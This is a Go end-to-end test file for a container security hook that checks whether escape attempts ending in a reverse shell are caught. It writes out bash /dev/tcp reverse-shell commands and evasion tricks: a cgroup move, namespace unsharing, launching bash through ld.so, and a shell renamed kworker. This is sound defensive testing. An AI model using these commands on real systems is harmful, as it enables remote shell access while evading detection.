package e2e

import (
	"fmt"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/opencontainers/runtime-spec/specs-go"

	"github.com/ocigate/ocigate/cgroupfilter"
)

// Escape attempts: a workload that tries to leave ocigate's scope before
// running a reverse shell. Each runs as a technique (control without the
// hook gets a shell; protected: killed; monitor: reported), on the host
// root, with bash's /dev/tcp as the payload.

// devTCP is bash's reverse shell to the listener, as a shell command.
func devTCP(port int) string {
	return fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port)
}

// A container allowed to write cgroup.procs (the host's cgroup2 tree
// mounted read-write) moves itself to a cgroup outside its own: exec
// tracking keeps it in its workload.
func TestEscapeMoveToAnotherCgroup(t *testing.T) {
	needHostRoot(t)
	root, err := cgroupfilter.V2Mount()
	if err != nil {
		t.Fatal(err)
	}
	name := fmt.Sprintf("ocigate-e2e-escape-%d", os.Getpid())
	dir := filepath.Join(root, name)
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		for i := 0; i < 100 && os.Remove(dir) != nil; i++ {
			time.Sleep(50 * time.Millisecond)
		}
	})
	testTechnique(t, technique{name: "esc-cgroup", shell: "/usr/bin/bash", connects: true,
		opts: func(o *ctrOpts) {
			o.Mounts = append(o.Mounts, specs.Mount{Destination: "/cg", Type: "bind", Source: root, Options: []string{"rbind", "rw"}})
		},
		args: func(port int) []string {
			return []string{"/bin/bash", "-c", fmt.Sprintf("echo $$ > /cg/%s/cgroup.procs && grep -q '^0::/%s$' /proc/self/cgroup && exec bash -c '%s'",
				name, name, devTCP(port))}
		}})
}

// New user, mount and pid namespaces do not change the cgroup.
func TestEscapeUnshareNamespaces(t *testing.T) {
	testTechnique(t, technique{name: "esc-unshare", shell: "/usr/bin/bash", connects: true, args: func(port int) []string {
		return []string{"/usr/bin/unshare", "--user", "--map-root-user", "--mount", "--pid", "--fork", "/bin/bash", "-c", devTCP(port)}
	}})
}

// bash run by the dynamic loader: the exec'd file is ld.so, not a shell.
func TestEscapeThroughLdSo(t *testing.T) {
	needHostRoot(t) // ldso is one of hostTools
	file, err := filepath.EvalSymlinks(ldso)
	if err != nil {
		t.Fatalf("x86-64 dynamic loader: %v", err)
	}
	testTechnique(t, technique{name: "esc-ldso", shell: file, connects: true, args: func(port int) []string {
		return []string{"/bin/bash", "-c", fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d; exec %s /bin/bash -i <&3 >&3 2>&3", port, ldso)}
	}})
}

// A copy of bash under another name, run from /tmp.
func TestEscapeCopiedShell(t *testing.T) {
	testTechnique(t, technique{name: "esc-copy", shell: "/tmp/kworker", connects: true, args: func(port int) []string {
		return []string{"/bin/bash", "-c", fmt.Sprintf("cp /usr/bin/bash /tmp/kworker && /tmp/kworker -c '/tmp/kworker -i >& /dev/tcp/127.0.0.1/%d 0>&1'", port)}
	}})
}
